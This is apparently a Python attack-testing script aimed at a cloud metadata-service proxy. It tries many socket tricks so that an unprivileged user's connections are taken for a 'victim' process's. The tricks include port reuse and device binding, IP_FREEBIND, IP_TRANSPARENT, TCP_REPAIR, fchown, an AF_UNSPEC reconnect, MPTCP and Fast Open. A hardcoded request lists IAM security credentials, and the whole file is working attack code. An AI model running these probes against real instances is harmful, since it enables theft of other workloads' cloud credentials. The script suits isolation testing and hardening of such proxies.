#!/usr/bin/python3
"""Sockets as near to the victim's as an unprivileged user can make them, and what the proxy takes each for.

usage: sockets.py VICTIM_PORT
Prints one line of JSON: each attempt with its outcome: the role that was given, a refusal, or the error of the kernel.
"""
import itertools
import json
import os
import socket
import struct
import sys

from imds import METADATA4, METADATA6, outcome, role, tcp

port = int(sys.argv[1])
SO_BINDTODEVICE, SO_REUSEPORT = 25, 15
IP_TRANSPARENT, IP_FREEBIND, IP_BIND_ADDRESS_NO_PORT = 19, 15, 24
TCP_REPAIR, MSG_FASTOPEN, IPPROTO_MPTCP, AF_SMC = 19, 0x20000000, 262, 43
NODE4, NODE6, AGENT = "10.77.0.2", "fd77::2", "169.254.0.2"
LIST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
attempts = {}

OPTIONS = {
    "plain": [],
    "SO_REUSEADDR": [(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)],
    "SO_REUSEPORT": [(socket.SOL_SOCKET, SO_REUSEPORT, 1)],
    "both": [(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1), (socket.SOL_SOCKET, SO_REUSEPORT, 1)],
    "lo": [(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0")],
    "lo and both": [(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0"), (socket.SOL_SOCKET, socket.SO_REUSEADDR, 1),
                    (socket.SOL_SOCKET, SO_REUSEPORT, 1)],
    "eth0": [(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0\0")],
    "eth0 and reuse": [(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0\0"), (socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)],
    "no port": [(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)],
}
PLACES = [
    (socket.AF_INET, source, destination)
    for source in ("127.0.0.1", "127.0.0.2", NODE4, AGENT, "0.0.0.0")
    for destination in ((METADATA4, 80), ("127.0.0.1", 254))
] + [
    (socket.AF_INET6, source, destination)
    for source in (NODE6, "::1", "::")
    for destination in ((METADATA6, 80), ("::1", 254))
] + [
    (socket.AF_INET6, "::ffff:" + NODE4, ("::ffff:" + METADATA4, 80)),
    (socket.AF_INET6, "::ffff:127.0.0.2", ("::ffff:" + METADATA4, 80)),
]


def bound(family, source, destination, options):
    with tcp(family, 0.7) as s:
        for level, name, value in options:
            s.setsockopt(level, name, value)
        s.bind((source, port))
        s.connect(destination)
        return role(s)


for (family, source, destination), (name, options) in itertools.product(PLACES, OPTIONS.items()):
    key = f"{source} -> {destination[0]}:{destination[1]}, {name}"
    attempts[key] = outcome(lambda: bound(family, source, destination, options))


def attempt(act):
    attempts[act.__doc__] = outcome(act)


@attempt
def _():
    """IP_TRANSPARENT"""
    with tcp() as s:
        s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
        s.bind(("10.77.0.99", port))
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """IP_FREEBIND"""
    with tcp() as s:
        s.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        s.bind(("10.77.0.99", port))
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """IP_FREEBIND on the metadata service's own address"""
    with tcp() as s:
        s.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        s.bind((METADATA4, port))
        s.connect(("127.0.0.1", 254))
        return role(s)


@attempt
def _():
    """TCP_REPAIR: a connection made up"""
    with tcp() as s:
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        s.bind((NODE4, port))
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """SO_MARK"""
    with tcp() as s:
        s.setsockopt(socket.SOL_SOCKET, 36, 1)
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """a raw socket"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP):
        return "made"


@attempt
def _():
    """a packet socket"""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3):
        return "made"


@attempt
def _():
    """the socket given away with fchown"""
    with tcp() as s:
        os.fchown(s.fileno(), int(sys.argv[2]), -1)
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """the socket given to root with fchown"""
    with tcp() as s:
        os.fchown(s.fileno(), 0, -1)
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """both ends opened at once, on the proxy's own port"""
    with tcp() as s:
        s.bind(("127.0.0.1", 254))
        s.connect(("127.0.0.1", port))
        return role(s)


@attempt
def _():
    """connected to itself"""
    with tcp() as s:
        s.bind(("127.0.0.1", 0))
        s.connect(s.getsockname())
        s.sendall(LIST)
        return "itself" if s.recv(65536) == LIST else "another"


@attempt
def _():
    """dissolved with AF_UNSPEC and connected again"""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    with tcp() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.connect((METADATA4, 80))
        own = s.getsockname()[1]
        role(s)
        unspecified = struct.pack("H14x", socket.AF_UNSPEC)
        s.setblocking(True)
        if libc.connect(s.fileno(), unspecified, len(unspecified)) != 0:
            raise OSError(ctypes.get_errno(), "connect")
        s.settimeout(2)
        s.bind(("127.169.254.1", own))
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """MPTCP"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as s:
        s.settimeout(2)
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """TCP Fast Open"""
    with tcp() as s:
        s.sendto(LIST, MSG_FASTOPEN, (METADATA4, 80))
        from imds import answer
        return answer(s)[1]


@attempt
def _():
    """SMC"""
    with socket.socket(AF_SMC, socket.SOCK_STREAM, 0) as s:
        s.settimeout(2)
        s.connect((METADATA4, 80))
        return role(s)


@attempt
def _():
    """a name in the kernel's eyes other than the process's: setuid"""
    os.setuid(int(sys.argv[2]))
    return "changed"


print(json.dumps(attempts))
